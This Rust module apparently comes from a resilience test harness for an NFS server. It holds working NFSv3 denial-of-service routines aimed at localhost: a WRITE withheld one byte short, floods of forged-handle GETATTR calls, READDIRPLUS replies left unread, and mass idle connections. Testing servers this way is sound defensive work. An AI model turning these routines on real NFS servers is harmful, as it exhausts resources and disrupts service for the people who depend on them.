//! Attacks over NFS version 3, with messages of their own (RFC 1813, RFC 5531).

use super::Target;
use super::kind::{IDLE_ALL, IDLE_EACH, Kind, Mute, PLAIN};
use anyhow::{Result, ensure};
use std::io::{Read as _, Write as _};
use std::net::TcpStream;

pub(super) const KINDS: &[Kind] = &[
    Kind {
        name: "nfs-half-calls",
        does: "clients leave an NFS write of 1 MiB without its last byte",
        attack: half_call,
        ..PLAIN
    },
    Kind {
        name: "nfs-forged-handles",
        does: "clients ask for the attributes of 200 forged NFS handles at once, over and over",
        attack: forged_handles,
        ..PLAIN
    },
    Kind {
        name: "nfs-unread-directories",
        does: "clients have 60 NFS READDIRPLUS of 64 KiB each and do not read the replies",
        attack: unread_directories,
        ..PLAIN
    },
    Kind {
        name: "nfs-connections",
        does: "clients open 190 NFS connections each, call NULL, and do nothing",
        connections: IDLE_ALL,
        attack: connections,
        ..PLAIN
    },
];

const NFS: u32 = 100_003;
const MOUNT: u32 = 100_005;

const NULL: u32 = 0;
const MNT: u32 = 1;
const GETATTR: u32 = 1;
const LOOKUP: u32 = 3;
const WRITE: u32 = 7;
const READDIRPLUS: u32 = 17;

/// Calls in one send.
const CALLS: u32 = 200;

/// Appends a call as one fragment.
fn call(out: &mut Vec<u8>, xid: u32, (program, procedure): (u32, u32), args: &[u8]) {
    // A call of version 2 of RPC, to version 3 of the program, without credential and verifier.
    let words = [xid, 0, 2, program, 3, procedure, 0, 0, 0, 0];
    let length = u32::try_from(words.len() * 4 + args.len()).expect("some MiB");
    out.extend((1 << 31 | length).to_be_bytes());
    out.extend(words.iter().flat_map(|word| word.to_be_bytes()));
    out.extend(args);
}

/// Encodes a byte string: its length, and the bytes with padding.
fn opaque(bytes: &[u8]) -> Vec<u8> {
    let length = u32::try_from(bytes.len()).expect("some MiB");
    let mut all = [&length.to_be_bytes(), bytes].concat();
    all.resize(all.len().next_multiple_of(4), 0);
    all
}

/// A client that waits for replies.
struct Client(TcpStream);

impl Client {
    fn connect(port: u16) -> Result<Client> {
        let stream = TcpStream::connect(("127.0.0.1", port))?;
        stream.set_read_timeout(Some(super::HANG))?;
        Ok(Client(stream))
    }

    /// Receives a reply; returns its results.
    fn reply(&mut self) -> Result<Vec<u8>> {
        let mut mark = [0; 4];
        self.0.read_exact(&mut mark)?;
        let length = u32::from_be_bytes(mark) & !(1 << 31);
        ensure!((24..1 << 22).contains(&length), "a reply of {length} bytes");
        let mut reply = vec![0; length as usize];
        self.0.read_exact(&mut reply)?;
        // A reply to an accepted and successful call, with an empty verifier.
        let is_done = reply[4..8] == [0, 0, 0, 1] && reply[8..24] == [0; 16];
        ensure!(is_done, "the call is refused");
        Ok(reply.split_off(24))
    }

    /// Calls a procedure that returns a handle.
    fn handle_of(&mut self, what: (u32, u32), args: &[u8]) -> Result<Vec<u8>> {
        let mut bytes = Vec::new();
        call(&mut bytes, 1, what, args);
        self.0.write_all(&bytes)?;
        let results = self.reply()?;
        let is_done = results.len() > 8 && results[..7] == [0; 7];
        ensure!(is_done, "no handle: {:?}", results.first_chunk::<4>());
        let length = usize::from(results[7]);
        ensure!(results.len() >= 8 + length, "half a handle");
        Ok(results[8..8 + length].to_vec())
    }

    /// Returns the handle of the root.
    fn root(&mut self) -> Result<Vec<u8>> {
        self.handle_of((MOUNT, MNT), &opaque(b"/"))
    }

    /// Returns the handle of an entry of the root.
    fn lookup(&mut self, name: &str) -> Result<Vec<u8>> {
        let root = self.root()?;
        self.handle_of((NFS, LOOKUP), &[opaque(&root), opaque(name.as_bytes())].concat())
    }
}

fn half_call(target: &Target, _number: usize) -> Result<()> {
    let file = Client::connect(target.nfs)?.lookup("small")?;
    let (offset, count, stable) = (0u64.to_be_bytes(), 1u32 << 20, 2u32.to_be_bytes());
    let data = opaque(&vec![7; 1 << 20]);
    let args = [&opaque(&file)[..], &offset, &count.to_be_bytes(), &stable, &data].concat();
    let mut bytes = Vec::new();
    call(&mut bytes, 2, (NFS, WRITE), &args);
    bytes.pop();
    Mute::connect(target.nfs)?.send_and_keep(target, &bytes)
}

fn forged_handles(target: &Target, number: usize) -> Result<()> {
    let mut client = Client::connect(target.nfs)?;
    let mut forged = client.root()?;
    let last = forged.len() - 1;
    target.arm();
    let mut turn = 0u8;
    while !target.over() {
        let mut bytes = Vec::new();
        turn = turn.wrapping_add(1);
        for xid in 0..CALLS {
            forged[last] ^= turn.max(1);
            forged[xid as usize % last] ^= u8::try_from(number % 256)?;
            call(&mut bytes, xid, (NFS, GETATTR), &opaque(&forged));
        }
        client.0.write_all(&bytes)?;
        for _ in 0..CALLS {
            client.reply()?;
            target.note_effect();
        }
    }
    Ok(())
}

fn unread_directories(target: &Target, _number: usize) -> Result<()> {
    let mut client = Client::connect(target.nfs)?;
    let many = client.lookup("many")?;
    let (cookie, verifier, size) = ([0; 8], [0; 8], (64u32 << 10).to_be_bytes());
    let args = [&opaque(&many)[..], &cookie, &verifier, &size, &size].concat();
    let mut bytes = Vec::new();
    (0..60).for_each(|xid| call(&mut bytes, xid, (NFS, READDIRPLUS), &args));
    client.0.write_all(&bytes)?;
    client.0.set_nonblocking(true)?;
    let mute = Mute::of(client.0);
    target.keep(|| mute.lives());
    Ok(())
}

fn connections(target: &Target, _number: usize) -> Result<()> {
    let mut bytes = Vec::new();
    call(&mut bytes, 1, (NFS, NULL), &[]);
    let mut held = Vec::new();
    for _ in 0..IDLE_EACH * 2 {
        let mut mute = Mute::connect(target.nfs)?;
        mute.push(&bytes)?;
        held.push(mute);
    }
    target.keep(|| held.iter().any(Mute::lives));
    Ok(())
}
